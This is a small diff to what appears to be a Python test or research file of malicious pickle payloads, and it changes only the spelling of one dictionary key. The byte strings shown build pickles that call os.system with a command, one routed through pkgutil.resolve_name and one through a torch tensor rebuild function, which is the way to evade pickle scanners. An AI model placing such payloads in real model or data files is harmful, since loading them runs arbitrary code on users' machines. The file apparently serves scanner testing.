@@ -44,7 +44,7 @@ PAYLOADS = {
     + call("pkgutil", "resolve_name", text("os:system"))
     + text(COMMAND)
     + b"\x85R.",
-    "apply through a recognised function": b"\x80\x02"
+    "apply through a recognized function": b"\x80\x02"
     + b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\ncos\nsystem\n"
     + text(COMMAND)
     + b"\x85NtR.",
